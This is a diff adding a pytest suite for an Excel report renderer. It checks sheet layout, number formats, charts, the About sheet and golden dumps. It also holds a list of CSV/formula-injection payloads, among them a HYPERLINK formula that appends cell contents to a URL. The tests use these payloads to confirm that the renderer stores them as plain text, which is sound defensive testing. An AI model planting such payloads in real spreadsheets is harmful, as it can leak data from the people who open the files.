@@ -1,0 +1,428 @@
+"""The Excel report renderer: real numbers, safe text, layout, chart, About sheet, goldens."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from inspect_cli.aggregate import ForceReport, ThematicReport
+from inspect_cli.frameworks import Framework
+from inspect_cli.read import OUTPUT_MARKER
+from inspect_cli.render.excel_report import write_force_xlsx, write_thematic_xlsx
+from tests.golden import assert_golden
+
+PAYLOADS = (
+    '=HYPERLINK("http://x/?"&A1,"y")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=1+1",
+    "-5",
+    "\t=1+1",
+    "http://example.com/x",
+)
+THEMATIC_SHEETS = ["Conclusions", "Key findings", "Stages", "Indicators", "Chart", "About"]
+FORCE_SHEETS = [
+    "Summary",
+    "Stages",
+    "Breakdowns",
+    "Indicators",
+    "Delay",
+    "Detention",
+    "Completeness",
+    "Cases",
+    "Chart",
+    "About",
+]
+TABLE_SHEETS = {"Chart", "About"}  # the sheets that are NOT one table each
+
+
+def _thematic(report: ThematicReport, folder: Path, name: str = "thematic.xlsx") -> Path:
+    target = folder / name
+    write_thematic_xlsx(report, target)
+    return target
+
+
+def _force(report: ForceReport, folder: Path, name: str = "force.xlsx") -> Path:
+    target = folder / name
+    write_force_xlsx(report, target)
+    return target
+
+
+def _rows(ws: Any) -> list[list[Any]]:
+    return [list(r) for r in ws.iter_rows()]
+
+
+def _header_row(ws: Any, first: str) -> int:
+    """1-based row number of the header row whose column A is ``first``."""
+    for row in ws.iter_rows(min_col=1, max_col=1):
+        if row[0].value == first:
+            return int(row[0].row)
+    raise AssertionError(f"no header {first!r} in {ws.title}")
+
+
+def _row_by_label(ws: Any, label: object) -> list[Any]:
+    for row in ws.iter_rows():
+        if row[0].value == label:
+            return list(row)
+    raise AssertionError(f"no row {label!r} in {ws.title}")
+
+
+def _worksheet_xml(path: Path) -> dict[str, str]:
+    with zipfile.ZipFile(path) as zf:
+        return {
+            n: zf.read(n).decode("utf-8")
+            for n in zf.namelist()
+            if n.startswith("xl/worksheets/") and n.endswith(".xml")
+        }
+
+
+def _dump(path: Path) -> str:
+    """Every sheet's cell values (not styles), deterministic, for golden files."""
+    wb = openpyxl.load_workbook(path)
+    out: list[str] = []
+    for ws in wb.worksheets:
+        out.append(f"== {ws.title}")
+        out.append(f"freeze={ws.freeze_panes} filter={ws.auto_filter.ref}")
+        for row in ws.iter_rows(values_only=True):
+            values = list(row)
+            while values and values[-1] is None:
+                values.pop()
+            out.append("\t".join(repr(v) for v in values))
+        out.append("")
+    return "\n".join(out)
+
+
+# --------------------------------------------------------------------------- thematic
+
+
+def test_thematic_sheets_and_names(thematic: ThematicReport, tmp_path: Path) -> None:
+    wb = openpyxl.load_workbook(_thematic(thematic, tmp_path))
+    assert wb.sheetnames == THEMATIC_SHEETS
+    for name in wb.sheetnames:
+        assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
+
+
+def test_conclusions_reproduce_the_report(thematic: ThematicReport, tmp_path: Path) -> None:
+    ws = openpyxl.load_workbook(_thematic(thematic, tmp_path))["Conclusions"]
+    assert ws["A1"].value == thematic.meta.title
+    head = _header_row(ws, "Force")
+    headers = [c.value for c in ws[head]]
+    assert headers == [
+        "Force",
+        "Good n",
+        "Good %",
+        "Adequate n",
+        "Adequate %",
+        "Inadequate n",
+        "Inadequate %",
+        "Total cases",
+        "Inadequate 95% CI low %",
+        "Inadequate 95% CI high %",
+        "Serious concern",
+    ]
+    groups = [c.value for c in ws[head - 1]]
+    for grade in ("good", "adequate", "inadequate"):
+        assert thematic.headers[grade] in groups
+
+    c = _row_by_label(ws, "Force C")
+    assert [x.value for x in c] == [
+        "Force C", 24, 0.21, 34, 0.30, 57, 0.50, 115, 0.406, 0.586, "yes"
+    ]  # fmt: skip
+    for cell in c[1:10]:
+        assert cell.data_type == "n", cell.coordinate
+    for cell in (c[2], c[4], c[6]):
+        assert cell.number_format == "0%"
+    assert c[8].number_format == "0.0%" and c[9].number_format == "0.0%"
+    assert c[1].number_format != "@"
+
+    a = _row_by_label(ws, "Force A")
+    assert a[1].value == "Not recorded"
+    assert all(x.value is None for x in a[2:])  # blank, not zero
+
+    total = _row_by_label(ws, "Total")
+    assert total[7].value == 576 and total[7].data_type == "n"
+    assert [total[1].value, total[3].value, total[5].value] == [177, 179, 220]
+    assert total[1].font.b
+
+    # every share is the report's own rounded figure / 100
+    for row in thematic.forces:
+        if row.recorded:
+            cells = _row_by_label(ws, row.label)
+            assert cells[2].value == pytest.approx(row.good_pct / 100)  # type: ignore[operator]
+            assert cells[6].value == pytest.approx(row.inadequate_pct / 100)  # type: ignore[operator]
+
+    texts = [str(r[0].value) for r in ws.iter_rows() if r[0].value]
+    for note in thematic.footnotes:
+        assert note in texts
+
+
+def test_layout_frozen_header_and_filters(thematic: ThematicReport, tmp_path: Path) -> None:
+    wb = openpyxl.load_workbook(_thematic(thematic, tmp_path))
+    ws = wb["Conclusions"]
+    head = _header_row(ws, "Force")
+    assert ws.freeze_panes == f"B{head + 1}"
+    last_force = _row_by_label(ws, "Force H")[0].row
+    assert ws.auto_filter.ref == f"A{head}:K{last_force}"  # the Total row stays put
+    assert ws.column_dimensions["A"].width >= 10
+    for name in wb.sheetnames:
+        if name in TABLE_SHEETS:
+            continue
+        sheet = wb[name]
+        assert sheet.freeze_panes, name
+        assert sheet.auto_filter.ref, name
+        first_row = int(re.sub(r"\D", "", sheet.auto_filter.ref.split(":")[0]))
+        assert first_row >= 3, name  # a title row and a caption above the header
+        assert int(re.sub(r"\D", "", sheet.freeze_panes)) == first_row + 1, name
+
+
+def test_key_findings_stages_indicators(thematic: ThematicReport, tmp_path: Path) -> None:
+    wb = openpyxl.load_workbook(_thematic(thematic, tmp_path))
+    kf = wb["Key findings"]
+    chi = thematic.chi_square
+    assert chi is not None
+    assert _row_by_label(kf, "Chi-square statistic")[1].value == pytest.approx(chi.statistic)
+    assert _row_by_label(kf, "Degrees of freedom")[1].value == chi.dof
+    assert _row_by_label(kf, "p-value")[1].value == pytest.approx(chi.p_value)
+    assert _row_by_label(kf, "Test reliable")[1].value == ("yes" if chi.reliable else "no")
+    serious = _row_by_label(kf, "Forces of serious concern")
+    assert serious[1].value == ", ".join(thematic.findings.serious_concern)
+    assert _row_by_label(kf, "Inadequate: share of all cases")[1].value == 0.38
+
+    st = wb["Stages"]
+    head = _header_row(st, "Force")
+    labels = [c.value for c in st[head - 1]]
+    assert [lab for lab in labels if lab] == [label for _, label in thematic.stages]
+    c = _row_by_label(st, "Force C")
+    first = thematic.stage_rows[1]
+    assert first.label == "Force C"
+    assert [c[1].value, c[2].value] == [first.cells[0].inadequate_pct / 100, 102]  # type: ignore[operator]
+    assert _row_by_label(st, "Total")[2].value == thematic.stage_total.cells[0].applicable
+
+    ind = wb["Indicators"]
+    head = _header_row(ind, "Rank")
+    body = [[c.value for c in r] for r in ind.iter_rows(min_row=head + 1) if r[0].value]
+    assert len(body) == len(thematic.worst_indicators)
+    top = thematic.worst_indicators[0]
+    assert body[0][:3] == [1, top.id, top.label] and body[0][6] == top.worst
+
+
+def test_thematic_chart(thematic: ThematicReport, tmp_path: Path) -> None:
+    path = _thematic(thematic, tmp_path)
+    with zipfile.ZipFile(path) as zf:
+        assert "xl/charts/chart1.xml" in zf.namelist()
+        chart = zf.read("xl/charts/chart1.xml").decode()
+    assert 'c:barDir val="bar"' in chart and 'grouping val="percentStacked"' in chart
+    assert "Conclusions!$A$5:$A$12" in chart  # categories: the force rows
+    for col in ("C", "E", "G"):  # good %, adequate %, inadequate %
+        assert f"Conclusions!${col}$5:${col}$12" in chart
+
+
+def test_about_sheet_marks_tool_output(
+    thematic: ThematicReport, force_c: ForceReport, fw: Framework, tmp_path: Path
+) -> None:
+    from inspect_cli.load import load_cases
+
+    t = _thematic(thematic, tmp_path)
+    f = _force(force_c, tmp_path)
+    for path in (t, f):
+        about = openpyxl.load_workbook(path)["About"]
+        assert about["A1"].value == OUTPUT_MARKER
+        values = {r[0]: r[1] for r in about.iter_rows(values_only=True) if r[0]}
+        assert values["Tool"] == "inspect-cli 0.0.test"
+        assert values["Created"] == "2026-01-01T00:00:00+00:00"
+        assert values["Audit type"].startswith(thematic.meta.audit_type)
+    result = load_cases([tmp_path], fw)
+    skipped = {p.file for p in result.problems if p.code == "inspect-cli-output"}
+    assert skipped == {t.name, f.name}
+    assert result.cases.empty
+
+
+def test_thematic_with_no_recorded_forces(thematic: ThematicReport, tmp_path: Path) -> None:
+    empty = replace(
+        thematic,
+        forces=thematic.forces[:1],
+        chi_square=None,
+        stage_rows=(),
+        worst_indicators=(),
+    )
+    wb = openpyxl.load_workbook(_thematic(empty, tmp_path))
+    assert _row_by_label(wb["Key findings"], "Chi-square test of variation between forces")
+    none = replace(thematic, forces=(), chi_square=None, stage_rows=())
+    wb = openpyxl.load_workbook(_thematic(none, tmp_path, "none.xlsx"))
+    assert "Chart" not in wb.sheetnames and wb.sheetnames[-1] == "About"
+
+
+# --------------------------------------------------------------------------- force
+
+
+def test_force_sheets_and_summary(force_c: ForceReport, tmp_path: Path) -> None:
+    wb = openpyxl.load_workbook(_force(force_c, tmp_path))
+    assert wb.sheetnames == FORCE_SHEETS
+    ws = wb["Summary"]
+    for share in force_c.distribution:
+        row = _row_by_label(ws, share.grade.capitalize())
+        assert row[1].value == share.count and row[1].data_type == "n"
+        assert row[2].value == pytest.approx(share.pct / 100)  # type: ignore[operator]
+        assert row[2].number_format == "0%"
+        assert share.ci is not None and row[3].value == pytest.approx(share.ci.low / 100)
+    assert _row_by_label(ws, "Total")[1].value == force_c.overall.total == 115
+
+
+def test_force_tables(force_c: ForceReport, tmp_path: Path) -> None:
+    wb = openpyxl.load_workbook(_force(force_c, tmp_path))
+    br = wb["Breakdowns"]
+    head = _header_row(br, "Breakdown")
+    body = [[c.value for c in r] for r in br.iter_rows(min_row=head + 1) if r[0].value]
+    assert len(body) == sum(len(b.rows) for b in force_c.breakdowns)
+    assert {r[0] for r in body} == {b.title for b in force_c.breakdowns}
+    first = force_c.breakdowns[0].rows[0]
+    assert body[0][1:4] == [first.label, first.good, first.good_pct / 100]  # type: ignore[operator]
+
+    st = wb["Stages"]
+    detention = _row_by_label(st, "Police detention")
+    assert [c.value for c in detention][1:5] == [15, 2, 2, 11]
+
+    delay = _row_by_label(wb["Delay"], "Reported → suspect interviewed")
+    assert [c.value for c in delay] == ["Reported → suspect interviewed", 50, 8.5, 110, 0]
+
+    det = wb["Detention"]
+    head = _header_row(det, "Indicator")
+    assert [c.value for c in det[head]][2:] == ["Yes", "Partly", "No", "Not applicable"]
+    assert [c.value for c in _row_by_label(det, "Welfare needs met")][1:] == [15, 1, 4, 9, 1]
+
+    comp = _row_by_label(wb["Completeness"], "Ethnicity")
+    assert [c.value for c in comp] == ["Ethnicity", 72, 115, 0.63]
+
+    ind = wb["Indicators"]
+    head = _header_row(ind, "Rank")
+    assert [c.value for c in ind[head]][4] == "Theme"
+    assert _row_by_label(ind, 1)[4].value == force_c.failing_indicators[0].theme
+
+
+def test_force_case_list_is_complete(force_c: ForceReport, tmp_path: Path) -> None:
+    wb = openpyxl.load_workbook(_force(force_c, tmp_path))
+    ws = wb["Cases"]
+    head = _header_row(ws, "Case ref")
+    body = [[c.value for c in r] for r in ws.iter_rows(min_row=head + 1) if r[0].value]
+    assert len(body) == len(force_c.cases) == 115
+    assert body[0] == [
+        force_c.cases[0].case_ref,
+        force_c.cases[0].audit_type,
+        force_c.cases[0].area,
+        force_c.cases[0].grade,
+        force_c.cases[0].reason,
+    ]
+    assert ws.auto_filter.ref == f"A{head}:E{head + 115}"
+
+    none = openpyxl.load_workbook(_force(replace(force_c, cases=()), tmp_path, "none.xlsx"))
+    assert "Cases" not in none.sheetnames
+
+
+def test_force_chart(force_c: ForceReport, tmp_path: Path) -> None:
+    with zipfile.ZipFile(_force(force_c, tmp_path)) as zf:
+        assert "xl/charts/chart1.xml" in zf.namelist()
+        chart = zf.read("xl/charts/chart1.xml").decode()
+    assert "Summary!$B$4:$B$6" in chart and "Summary!$A$4:$A$6" in chart
+
+
+def test_force_without_dates_or_detention(force_c: ForceReport, tmp_path: Path) -> None:
+    bare = replace(force_c, delays=(), detention=(), failing_indicators=())
+    wb = openpyxl.load_workbook(_force(bare, tmp_path))
+    texts = [str(c.value) for r in wb["Delay"].iter_rows() for c in r if c.value]
+    assert "No dates were recorded for these cases." in texts
+
+
+# --------------------------------------------------------------------------- injection
+
+
+def test_formula_payloads_stay_text(
+    thematic: ThematicReport, force_c: ForceReport, tmp_path: Path
+) -> None:
+    n = len(PAYLOADS)
+    forces = tuple(replace(row, label=PAYLOADS[i % n]) for i, row in enumerate(thematic.forces))
+    stage_rows = tuple(
+        replace(row, label=PAYLOADS[i % n]) for i, row in enumerate(thematic.stage_rows)
+    )
+    worst = tuple(
+        replace(ind, label=PAYLOADS[i % n], theme=PAYLOADS[(i + 1) % n])
+        for i, ind in enumerate(thematic.worst_indicators)
+    )
+    evil_thematic = replace(
+        thematic,
+        forces=forces,
+        stage_rows=stage_rows,
+        worst_indicators=worst,
+        headers={g: PAYLOADS[0] for g in thematic.headers},
+        footnotes=(PAYLOADS[1],),
+        meta=replace(thematic.meta, title=PAYLOADS[0], notes=(PAYLOADS[3],)),
+    )
+    cases = tuple(
+        replace(c, reason=PAYLOADS[i % n], case_ref=PAYLOADS[(i + 2) % n])
+        for i, c in enumerate(force_c.cases)
+    )
+    breakdowns = tuple(
+        replace(b, title=PAYLOADS[3], rows=tuple(replace(r, label=PAYLOADS[0]) for r in b.rows))
+        for b in force_c.breakdowns
+    )
+    failing = tuple(
+        replace(ind, label=PAYLOADS[i % n]) for i, ind in enumerate(force_c.failing_indicators)
+    )
+    evil_force = replace(
+        force_c,
+        force=PAYLOADS[0],
+        cases=cases,
+        breakdowns=breakdowns,
+        failing_indicators=failing,
+        meta=replace(force_c.meta, title=PAYLOADS[2]),
+    )
+    paths = [_thematic(evil_thematic, tmp_path), _force(evil_force, tmp_path)]
+
+    for path in paths:
+        for name, xml in _worksheet_xml(path).items():
+            assert "<f>" not in xml and "<f " not in xml, name
+            assert "hyperlink" not in xml.lower(), name
+        with zipfile.ZipFile(path) as zf:
+            charts = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/charts/")]
+        for chart in charts:  # chart titles are fixed text, never built from the data
+            assert "HYPERLINK" not in chart.split("<c:plotArea>")[0]
+
+    wb = openpyxl.load_workbook(paths[0])
+    ws = wb["Conclusions"]
+    assert ws["A1"].value == PAYLOADS[0] and ws["A1"].quotePrefix
+    head = _header_row(ws, "Force")
+    labels = [ws.cell(head + 1 + i, 1) for i in range(len(forces))]
+    assert [c.value for c in labels] == [f.label for f in forces]
+    for cell in labels:
+        assert cell.data_type == "s"
+        assert bool(cell.quotePrefix) == cell.value.startswith(("=", "+", "-", "@", "\t"))
+    ind = wb["Indicators"]
+    head = _header_row(ind, "Rank")
+    assert [ind.cell(head + 1 + i, 3).value for i in range(len(worst))] == [w.label for w in worst]
+
+    fb = openpyxl.load_workbook(paths[1])
+    cs = fb["Cases"]
+    head = _header_row(cs, "Case ref")
+    got = [(r[0].value, r[4].value) for r in cs.iter_rows(min_row=head + 1) if r[0].value]
+    assert got == [(c.case_ref, c.reason) for c in cases]
+    neg = next(r for r in cs.iter_rows(min_row=head + 1) if r[4].value == "-5")
+    assert neg[4].data_type == "s"  # text that looks like a number stays text
+    assert fb["Indicators"].cell(1, 1).value == f"Indicators most often failed: {PAYLOADS[0]}"
+    assert fb["About"]["A1"].value == OUTPUT_MARKER
+
+
+# --------------------------------------------------------------------------- goldens
+
+
+def test_golden_thematic_xlsx(thematic: ThematicReport, tmp_path: Path) -> None:
+    assert_golden("thematic.xlsx.txt", _dump(_thematic(thematic, tmp_path)))
+
+
+def test_golden_force_c_xlsx(force_c: ForceReport, tmp_path: Path) -> None:
+    assert_golden("force_c.xlsx.txt", _dump(_force(force_c, tmp_path)))
